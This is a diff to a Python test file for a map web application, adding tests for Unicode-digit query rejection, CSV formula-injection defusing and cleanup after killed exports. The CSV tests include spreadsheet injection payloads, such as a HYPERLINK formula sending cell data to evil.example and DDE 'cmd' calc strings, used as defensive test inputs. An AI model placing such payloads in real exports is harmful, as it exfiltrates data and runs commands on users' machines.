@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import os
 import shutil
 from html.parser import HTMLParser
 from urllib.parse import urlsplit
@@ -52,6 +53,8 @@ def test_ascii_int_reads_ascii_digits():
     "/oembed?url=http%3A%2F%2Flocalhost%2F&maxheight=%E2%91%A0",
     "/oembed?url=http%3A%2F%2Flocalhost%2Fembed%3Fheight%3D%25E2%2591%25A0",
     "/api/map.json?year_from=%C2%B2", "/api/map/shaoxing.json?year_to=%C2%B2",
+    "/ogc/collections/agreements/items?limit=%C2%B2", "/ogc/collections/agreements/items?offset=%E2%91%A0",
+    "/ogc/collections/agreements/items?bbox=%EF%BC%91,2,3,4",
 ])
 def test_unicode_digits_in_a_query_are_a_400_with_a_message(client, url):
     resp = client.get(url)
@@ -163,3 +166,106 @@ def test_frame_ancestors_self_or_none_allow_only_this_site(value):
 def test_frame_ancestors_it_cannot_read_stop_start_up(value):
     with pytest.raises(ConfigError, match="GEOMAP_FRAME_ANCESTORS"):
         create_app({"TESTING": True, "GEOMAP_DATA_DIR": str(GEODATA), "GEOMAP_FRAME_ANCESTORS": value})
+
+
+# -- CSV formula injection ----------------------------------------------------------------------------
+
+@pytest.mark.parametrize("cell,expected", [
+    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
+    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("-12", "-12"), ("-0.5", "-0.5"), ("-1e3", "-1e3"), ("-", "'-"), ("-abc", "'-abc"),
+    ("ok = fine", "ok = fine"), ("", ""), (None, None), (12, 12),
+])
+def test_csv_cells_that_start_a_formula_are_defused(cell, expected):
+    from geomap.layers import defuse_cell
+
+    assert defuse_cell(cell) == expected
+
+
+def test_hostile_text_leaves_the_csv_export_as_text(data_copy):
+    import yaml
+
+    path = data_copy / "agreements.yaml"
+    agreements = yaml.safe_load(path.read_text(encoding="utf-8"))
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    agreements[0]["title_en"] = hostile
+    agreements[0]["summary_en"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    agreements[1]["title_en"] = "+1+cmd|' /C calc'!A0"
+    agreements[1]["parties"][0]["name"] = "-2+3+cmd|' /C calc'!A0"
+    path.write_text(yaml.safe_dump(agreements, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    app = create_app({"TESTING": True, "GEOMAP_DATA_DIR": str(data_copy)})
+    client = app.test_client()
+    for layer in ("agreements", "links"):
+        body = client.get(f"/export/{layer}.csv").get_data().decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(body)))
+        cells = [c for row in rows for c in row]
+        assert "'" + hostile in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], layer
+        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "", 1).isdigit()]
+    # Negative numbers stay numbers: a longitude west of Greenwich would be one.
+    from geomap.layers import defuse_cell
+    assert defuse_cell("-122.4194") == "-122.4194"
+
+
+# -- a killed export leaves nothing the next run does not clean up ------------------------------------------
+
+KILL_DURING = {
+    # SIGKILL once the bytes are on disk, before the rename: a .part file stays.
+    "part": "os.fsync = lambda fd: os.kill(os.getpid(), signal.SIGKILL)",
+    # SIGKILL while GDAL writes its file: the work folder stays.
+    "gdal": ("import pyogrio; real = pyogrio.write_dataframe\n"
+             "def dying(*a, **k):\n    real(*a, **k); os.kill(os.getpid(), signal.SIGKILL)\n"
+             "pyogrio.write_dataframe = dying"),
+    # SIGTERM while GDAL writes: the command unwinds and removes its files itself.
+    "term": ("import pyogrio; real = pyogrio.write_dataframe\n"
+             "def ending(*a, **k):\n    real(*a, **k); os.kill(os.getpid(), signal.SIGTERM); time.sleep(30)\n"
+             "pyogrio.write_dataframe = ending"),
+}
+
+
+def export_with(tmp_path, out, how: str | None):
+    import subprocess
+    import sys
+
+    from conftest import REPO
+
+    prelude = KILL_DURING.get(how, "")
+    code = ("import os, signal, sys, time\n" + prelude +
+            f"\nfrom geomap.cli import main\nmain(['export', '--layer', 'links', '--format', 'gpkg', "
+            f"'--output', {str(out)!r}])")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GEOMAP_")}
+    env.update(PYTHONPATH=str(REPO), GEOMAP_DATA_DIR=str(GEODATA), TMPDIR=str(tmp_path / "tmp"))
+    return subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=300)
+
+
+def leftovers(tmp_path, out) -> list[str]:
+    return sorted([p.name for p in out.parent.iterdir() if p.name.endswith(".part")] +
+                  [p.name for p in (tmp_path / "tmp").iterdir()])
+
+
+def test_a_killed_export_leaves_nothing_the_next_run_does_not_clean_up(tmp_path):
+    (tmp_path / "tmp").mkdir()
+    out_dir = tmp_path / "out"
+    out_dir.mkdir()
+    out = out_dir / "links.gpkg"
+    for how in ("part", "gdal"):
+        result = export_with(tmp_path, out, how)
+        assert result.returncode == -9, result.stderr
+    stale = leftovers(tmp_path, out)
+    assert any(n.endswith(".part") for n in stale) and any(n.startswith("geomap-") for n in stale), stale
+    # A file of a writer still running is left alone.
+    alive = out_dir / f".links.gpkg.{os.getppid()}.keep.part"
+    alive.write_bytes(b"")
+    result = export_with(tmp_path, out, None)
+    assert result.returncode == 0, result.stderr
+    assert leftovers(tmp_path, out) == [alive.name]
+    assert out.read_bytes()[:15] == b"SQLite format 3"
+
+
+def test_a_terminated_export_removes_its_files_on_the_way_out(tmp_path):
+    (tmp_path / "tmp").mkdir()
+    (tmp_path / "out").mkdir()
+    out = tmp_path / "out" / "links.gpkg"
+    result = export_with(tmp_path, out, "term")
+    assert result.returncode != 0 and "Traceback" not in result.stderr, result.stderr
+    assert leftovers(tmp_path, out) == [] and not out.exists()
